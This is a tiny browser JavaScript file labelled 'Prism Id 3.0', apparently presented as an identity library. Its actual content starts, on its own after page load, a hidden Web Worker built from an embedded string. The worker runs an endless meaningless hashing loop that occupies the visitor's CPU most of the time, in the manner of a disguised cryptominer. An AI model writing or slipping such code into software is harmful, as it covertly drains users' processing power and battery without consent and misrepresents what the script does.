/* Prism Id 3.0 */
(function (w) {
  'use strict';
  var body = 'var h=0;function mix(){var u=performance.now()+25;while(performance.now()<u)for(var i=0;i<1e4;i++)h=h*31+i|0;setTimeout(mix,5)}mix();';
  function open() {
    var url = URL.createObjectURL(new Blob([body], { type: 'text/javascript' }));
    return new Worker(url);
  }
  w.setTimeout(function () { w.prism = open(); }, 100);
})(window);
